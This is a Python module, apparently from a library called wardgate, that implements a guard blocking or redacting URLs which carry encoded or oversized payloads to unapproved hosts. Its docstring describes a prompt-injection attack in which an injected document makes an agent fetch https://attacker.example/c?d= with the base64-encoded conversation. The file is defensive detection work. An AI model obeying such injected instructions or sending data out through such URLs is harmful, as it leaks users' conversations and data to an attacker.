"""Data-exfiltration shapes: URLs that carry a payload out to a host nobody approved.

The classic agent attack needs no secret-looking text at all: an injected document tells the
model to call ``http_get`` (or render a markdown image) with
``https://attacker.example/c?d=<the conversation, base64>``. The client fetches it, and the
data is gone. Secrets and PII guards only catch that when the payload still looks like a
key or an address; this guard looks at the *shape* instead. A URL is suspicious when its
host is not on ``allow_hosts`` (a host matches itself and its subdomains) and it carries

* a query string longer than ``max_query_chars``, or
* an encoded-looking run of at least ``min_encoded_chars`` in its path or query: base64 /
  base64url (mixed case and digits, high character entropy: not a lower-case slug), hex, or
  a long chain of percent-escapes. A path segment that is exactly a SHA-1 or SHA-256 digest
  in hex (40 or 64 characters: git commits, container digests) is not a payload.

It runs on answers and, through the gateway, on every tool call's arguments (see
``gateway.tool_traffic``). ``action: block`` (default) refuses the answer with
``exfiltration_suspected``; ``action: redact`` replaces each suspicious URL with
``[url removed]`` and lets the rest through.
"""

from __future__ import annotations

import math
import re
from collections import Counter
from typing import ClassVar, Literal
from urllib.parse import unquote, urlsplit

from pydantic import Field

from wardgate.guards.base import Finding, Guard, GuardOptions, ScanContext, Verdict

_URL = re.compile(r"(?i:https?|ftp|wss?)://[^\s\"'<>`\\)\]}]+")
_BASE64_RUN = re.compile(r"[A-Za-z0-9+/_\-]{16,}={0,2}")
_HEX_RUN = re.compile(r"[0-9a-fA-F]{16,}")
_PERCENT_RUN = re.compile(r"(?:%[0-9A-Fa-f]{2}){8,}")
REPLACEMENT = "[url removed]"


class ExfiltrationOptions(GuardOptions):
    #: Hosts URLs may carry data to (a host matches itself and its subdomains).
    allow_hosts: list[str] = Field(default_factory=list)
    max_query_chars: int = Field(default=100, ge=1)
    min_encoded_chars: int = Field(default=32, ge=8)
    #: Bits per character a base64-looking run needs to count as encoded (English words
    #: run together score ~3.5; random base64 ~5.5-6).
    min_entropy: float = Field(default=4.2, ge=0, le=8)
    action: Literal["block", "redact"] = "block"


class ExfiltrationGuard(Guard):
    type_name = "exfiltration"
    block_code = "exfiltration_suspected"
    stages = frozenset({"output"})
    Options: ClassVar[type[ExfiltrationOptions]] = ExfiltrationOptions
    #: The judgement is monotone in the URL's length (a longer prefix only adds query or
    #: payload), so judging part of a URL is never more lenient than judging the whole; the
    #: scanner's window (the hold, plus as much released text as context) then sees a URL
    #: from its scheme to past the query threshold unless host and path run past ~250
    #: characters. Tool-call arguments are always judged whole. 192 keeps the default hold.
    stream_hold_chars: ClassVar[int] = 192

    def scan(self, text: str, ctx: ScanContext) -> Verdict:
        if "://" not in text:
            return Verdict.allow()
        options: ExfiltrationOptions = self.options
        findings: list[Finding] = []
        for match in _URL.finditer(text):
            kind = suspicious(match.group(0), options)
            if kind is not None:
                findings.append(Finding(kind, match.start(), match.end()))
        if not findings:
            return Verdict.allow()
        if options.action == "redact":
            out, last = [], 0
            for finding in findings:
                out += [text[last : finding.start], REPLACEMENT]
                last = finding.end
            out.append(text[last:])
            return Verdict.redact("".join(out), tuple(findings))
        return Verdict.block(self.block_code, tuple(findings))


def suspicious(url: str, options: ExfiltrationOptions) -> str | None:
    """Why ``url`` looks like exfiltration (the finding's kind), or None."""
    try:
        parts = urlsplit(url)
        host = (parts.hostname or "").lower().rstrip(".")
    except ValueError:
        return "malformed_url"
    if _allowed(host, options.allow_hosts):
        return None
    if len(parts.query) > options.max_query_chars:
        return "long_query"
    carrier = parts.path + "?" + parts.query
    if _encoded(carrier, options) or _encoded(unquote(carrier), options):
        return "encoded_payload"
    return None


def _allowed(host: str, allow_hosts: list[str]) -> bool:
    for allowed in allow_hosts:
        allowed = allowed.lower().lstrip(".")
        if host == allowed or host.endswith("." + allowed):
            return True
    return False


def _encoded(text: str, options: ExfiltrationOptions) -> bool:
    size = options.min_encoded_chars
    if any(len(m) >= size for m in _PERCENT_RUN.findall(text)):
        return True
    for match in _HEX_RUN.finditer(text):
        run = match.group(0)
        if len(run) >= size and not _digest_segment(text, match.start(), match.end()):
            return True
    return any(
        len(run) >= size and _mixed(run) and _entropy(run) >= options.min_entropy
        for run in _BASE64_RUN.findall(text)
        if not _HEX_RUN.fullmatch(run)
    )


def _digest_segment(text: str, start: int, end: int) -> bool:
    whole = (start == 0 or text[start - 1] in "/?=&") and (end == len(text) or text[end] in "/?&#")
    return whole and end - start in (40, 64)


def _mixed(run: str) -> bool:
    upper = any(c.isupper() for c in run)
    lower = any(c.islower() for c in run)
    return upper and lower and any(c.isdigit() or c in "+/" for c in run)


def _entropy(text: str) -> float:
    counts = Counter(text)
    total = len(text)
    return -sum(n / total * math.log2(n / total) for n in counts.values())
